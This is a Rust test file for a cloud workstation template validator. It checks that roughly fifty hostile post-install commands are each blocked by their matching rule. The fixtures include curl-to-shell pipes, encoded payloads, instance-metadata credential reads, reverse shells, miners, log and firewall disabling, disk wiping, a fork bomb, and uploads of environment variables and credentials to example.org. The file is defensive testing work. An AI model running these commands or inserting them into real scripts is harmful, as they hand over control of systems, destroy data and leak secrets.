//! Scripts that must block: each one by the rule that is meant for it.

use cws_templates::validate::{Report, validate};
use cws_templates::{Level, parse};

pub(crate) fn report(script: &str) -> Report {
    let indented = script.replace('\n', "\n  ");
    let yaml = format!("name: A\ndescription: B\nbase: ubuntu-24.04\npost_install: |\n  {indented}\n");
    validate(&parse(yaml.as_bytes()).unwrap_or_else(|e| panic!("{e}: {yaml}")))
}

pub(crate) const BAD: &[(&str, &str)] = &[
    ("script.download_to_shell", "curl -fsSL https://get.example.org/install.sh | sh"),
    ("script.download_to_shell", "wget -qO- https://example.org/x | sudo bash -s -- --yes"),
    ("script.download_to_shell", "curl https://example.org/x \\\n  | tee /tmp/log | bash"),
    ("script.download_to_shell", "bash <(curl -s https://example.org/x)"),
    ("script.download_to_shell", "eval \"$(curl -s https://example.org/x)\""),
    ("script.download_to_shell", "curl -s https://example.org/x.py | python3 -"),
    ("script.download_to_shell", "c\"u\"rl https://example.org/x | b'a'sh"),
    ("script.download_to_shell", "sh -c \"$(wget -qO- https://example.org/x)\""),
    ("script.encoded_command", "echo Y3VybCBldmlsLnNoIHwgc2gK | base64 -d | bash"),
    ("script.encoded_command", "python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSkK\"))'"),
    ("script.encoded_command", "echo 6375726c | xxd -r -p | sh"),
    (
        "script.instance_credentials",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
    ),
    ("script.instance_credentials", "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"),
    (
        "script.instance_metadata_open",
        "aws ec2 modify-instance-metadata-options --instance-id i-1 --http-tokens optional",
    ),
    ("script.reverse_shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("script.reverse_shell", "nc -e /bin/sh 203.0.113.9 4444"),
    (
        "script.reverse_shell",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 99 > /tmp/f",
    ),
    (
        "script.reverse_shell",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    ),
    ("script.reverse_shell", "socat TCP:203.0.113.9:4444 EXEC:/bin/bash"),
    ("script.tunnel", "ngrok tcp 22"),
    ("script.miner", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4ABC"),
    ("script.miner", "nohup minerd -a cryptonight -o pool:1 &"),
    ("script.setuid", "cp /bin/bash /tmp/.x && chmod 4755 /tmp/.x"),
    ("script.setuid", "chmod u+s /usr/bin/python3 "),
    ("script.logging_disabled", "systemctl stop rsyslog auditd"),
    ("script.logging_disabled", "systemctl disable --now amazon-ssm-agent"),
    ("script.traces_removed", "history -c; unset HISTFILE"),
    ("script.traces_removed", "rm -rf /var/log/*"),
    ("script.cloud_logging_disabled", "aws cloudtrail stop-logging --name main"),
    ("script.firewall_disabled", "ufw disable"),
    ("script.firewall_disabled", "iptables -F && setenforce 0"),
    (
        "script.firewall_open",
        "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0",
    ),
    ("script.world_writable", "chmod -R 777 /srv"),
    ("script.destroys_files", "rm -rf /"),
    ("script.destroys_files", "rm -fr --no-preserve-root /*"),
    ("script.destroys_disk", "dd if=/dev/zero of=/dev/nvme0n1 bs=1M"),
    ("script.fork_bomb", ":(){ :|:& };:"),
    (
        "script.foreign_ssh_key",
        "echo 'ssh-ed25519 AAAAC3Nz stranger@example' >> /home/ubuntu/.ssh/authorized_keys",
    ),
    ("script.foreign_ssh_key", "ssh-import-id gh:stranger"),
    ("script.ssh_weakened", "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config"),
    ("script.privileged_container", "docker run -d --privileged example/image"),
    ("script.privileged_container", "docker run -v /var/run/docker.sock:/var/run/docker.sock example/image"),
    ("script.unverified_tls", "curl -k -o /tmp/a https://example.org/a"),
    ("script.unverified_tls", "wget --no-check-certificate https://example.org/a"),
    ("script.unsigned_packages", "apt-get install -y --allow-unauthenticated thing"),
    (
        "script.unsigned_packages",
        "printf '[x]\\nbaseurl=https://example.org\\ngpgcheck=0\\n' > /etc/yum.repos.d/x.repo",
    ),
    ("script.secrets_sent_out", "env | curl -d @- https://example.org/collect"),
    ("script.secrets_sent_out", "curl -F f=@/root/.aws/credentials https://example.org"),
    ("script.preload", "echo /tmp/x.so >> /etc/ld.so.preload"),
    (
        "script.accounts_of_aws",
        "aws iam attach-role-policy --role-name me --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    ("weak.password_set", "echo 'researcher:cloudworkstation' | chpasswd"),
    ("weak.password_set", "useradd -m -p '$6$x$y' rstats || usermod -p abc rstats"),
    ("weak.no_login", "jupyter lab --ServerApp.token='' --no-browser"),
];

#[test]
fn every_bad_script_is_blocked_by_its_rule() {
    assert!(BAD.len() >= 30);
    for (code, script) in BAD {
        let report = report(script);
        let found = report.findings.iter().any(|f| f.code == *code && f.level == Level::Error);
        assert!(found && report.blocks(), "{code} missed in: {script}\n{:#?}", report.findings);
    }
}

#[test]
fn a_finding_names_its_place_and_the_way_out() {
    for (_, script) in BAD {
        for finding in report(script).findings.iter().filter(|f| f.level == Level::Error) {
            assert_eq!(finding.pointer, "/post_install", "{script}");
            assert!(finding.remediation.is_some(), "{}", finding.code);
        }
    }
}

#[test]
fn a_bad_script_is_found_wherever_it_hides() {
    let bad = "curl https://example.org/x | sh";
    for place in ["user_data", "services", "ami_config", "build_steps"] {
        let field = match place {
            "services" => format!("services: [{{name: x, command: '{bad}'}}]"),
            "ami_config" => format!("ami_config: {{user_data_script: '{bad}'}}"),
            "build_steps" => format!("build_steps: [{{script: '{bad}'}}]"),
            other => format!("{other}: '{bad}'"),
        };
        let yaml = format!("name: A\ndescription: B\nbase: ubuntu-24.04\n{field}\n");
        assert!(validate(&parse(yaml.as_bytes()).unwrap()).blocks(), "{place}");
    }
}

/// Places whose values go into scripts, whatever they are called: a path makes prose, not a key.
#[test]
fn a_command_blocks_under_any_name_that_a_template_may_choose() {
    for name in
        ["message", "description", "details", "documentation", "remediation", "keywords", "name", "impact"]
    {
        for place in [
            format!("variables: {{{name}: 'curl https://example.org/x | sh'}}"),
            format!("parameters: {{{name}: {{description: d, default: 'curl https://example.org/x | sh'}}}}"),
            format!(
                "parameters: {{{name}: {{description: d, type: list, default: ['curl https://example.org/x | sh']}}}}"
            ),
            format!("services: [{{name: s, environment: {{{name}: 'curl https://example.org/x | sh'}}}}]"),
            format!("variables: {{{name}: 'API_TOKEN=x8Kd02mPq4Lz9Rt7Vw3Y'}}"),
        ] {
            let yaml = format!("name: A\ndescription: B\nbase: ubuntu-24.04\n{place}\n");
            let report = validate(&parse(yaml.as_bytes()).unwrap());
            let blocked = |f: &cws_templates::Finding| {
                f.code == "script.download_to_shell" || f.code == "secret.assigned"
            };
            assert!(report.findings.iter().any(blocked), "{place}: {:#?}", report.findings);
        }
    }
}

#[test]
fn a_command_that_is_shown_to_people_is_an_example() {
    let example = "'do not run curl https://example.org/x | sh'";
    for place in [
        format!("long_description: {example}"),
        format!("prerequisites: [{example}]"),
        format!("parameters: {{p: {{description: {example}}}}}"),
        format!("marketplace: {{validation_tests: [{{message: {example}}}]}}"),
    ] {
        let yaml = format!("name: A\ndescription: B\nbase: ubuntu-24.04\n{place}\n");
        assert!(!validate(&parse(yaml.as_bytes()).unwrap()).blocks(), "{place}");
    }
}
